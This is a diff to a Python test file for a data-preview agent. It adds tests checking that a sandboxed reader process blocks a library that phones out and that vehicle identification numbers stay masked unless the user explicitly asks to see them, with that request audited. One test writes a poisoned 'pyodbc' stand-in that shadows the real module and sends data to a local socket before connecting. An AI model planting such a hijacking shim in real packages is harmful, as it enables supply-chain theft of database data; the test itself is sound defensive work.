@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import shutil
 import sys
 from collections.abc import Iterator
@@ -14,8 +15,7 @@ import typer
 from typer.testing import CliRunner
 
 from agent.cli.preview import register
-from agent.demo.engine import Engine
-from agent.errors import PolicyError
+from agent.errors import PolicyError, SourceError
 from agent.service.supervisor import ReaderChild
 from agent.tasks.preview import preview
 from tests.story.world import SHIPPED, World, world
@@ -100,10 +100,10 @@ def test_a_draft_that_asks_for_what_is_nonpublic_is_not_shown_at_all(app: typer.
     assert "WOULD SEND" not in said.stdout
 
 
-@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgresql)])
-def store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[World]:
-    engine: Engine | None = None if request.param == "sqlite" else request.getfixturevalue("postgresql")
-    with world(tmp_path, engine=engine, customers=20) as made:
+@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgresql)])
+def store(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
+    engine = None if request.param == "sqlite" else request.getfixturevalue("postgresql_server").fresh()
+    with world(tmp_path_factory.mktemp("preview"), engine=engine, customers=20) as made:
         made.approve()
         made.enroll()
         made.extract()
@@ -125,3 +125,69 @@ def test_the_policies_in_force_can_be_shown_on_made_up_rows(app: typer.Typer, st
     assert said.exit_code == 0, said.exception
     assert [event for event, _ in seen if event != "sqlite3.connect"] == []
     assert said.stdout.startswith("SYNTHETIC")
+
+
+# A library beside the agent that goes elsewhere before it connects: what a poisoned package would do.
+POISONED = """
+import importlib, socket, sys
+sys.path[:] = [path for path in sys.path if path != {folder!r}]
+del sys.modules["pyodbc"]
+real = importlib.import_module("pyodbc")
+connect = real.connect
+def elsewhere(*args, **named):
+    if {port}:
+        socket.create_connection(("127.0.0.1", {port}), 5).sendall(b"a row")
+    return connect(*args, **named)
+real.connect = elsewhere
+sys.modules["pyodbc"] = real
+"""
+
+
+@pytest.mark.parametrize("phones", [False, True])
+def test_the_reader_child_reaches_the_source_and_nobody_else(
+    store: World, phones: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import socket
+
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        listener.settimeout(0.2)
+        folder = tmp_path / "beside"
+        folder.mkdir()
+        port = listener.getsockname()[1] if phones else 0
+        (folder / "pyodbc.py").write_text(POISONED.format(folder=str(folder), port=port))
+        monkeypatch.setenv("PYTHONPATH", str(folder))
+        with ReaderChild() as reader:
+            if phones:
+                with pytest.raises(SourceError) as refused:
+                    list(preview(store.desk, reader, show_values=False))
+                assert refused.value.code == "FG-S24"
+            else:
+                assert list(preview(store.desk, reader, show_values=False))
+        with pytest.raises(TimeoutError):
+            listener.accept()
+
+
+VIN = r"\b(?=\w*\d)[A-HJ-NPR-Z0-9]{17}\b"
+
+
+@pytest.mark.parametrize(("typed", "shown"), [("show values", True), ("yes", False)])
+def test_values_are_shown_to_whoever_types_it_and_that_is_audited(
+    app: typer.Typer, store: World, typed: str, shown: bool
+) -> None:
+    args = ["preview", "--config", str(store.folder / "agent.yaml"), "--show-values"]
+    before = len(store.audit())
+    said = CliRunner().invoke(app, args, input=f"{typed}\n")
+    asked = [entry["facts"]["shown"] for entry in store.audit()[before:] if entry["event"] == "preview"]
+    assert said.exit_code == (0 if shown else 1), said.exception
+    assert bool(re.search(VIN, said.stdout)) is shown
+    assert asked == (["values"] * len(asked) if shown else [])
+    assert bool(asked) is shown
+
+
+def test_without_being_asked_for_values_are_masked(app: typer.Typer, store: World) -> None:
+    before = len(store.audit())
+    said = CliRunner().invoke(app, ["preview", "--config", str(store.folder / "agent.yaml")])
+    assert said.exit_code == 0, said.exception
+    assert not re.search(VIN, said.stdout)
+    assert "*" * 16 in said.stdout
+    assert {entry["facts"]["shown"] for entry in store.audit()[before:] if entry["event"] == "preview"} == {"masked"}
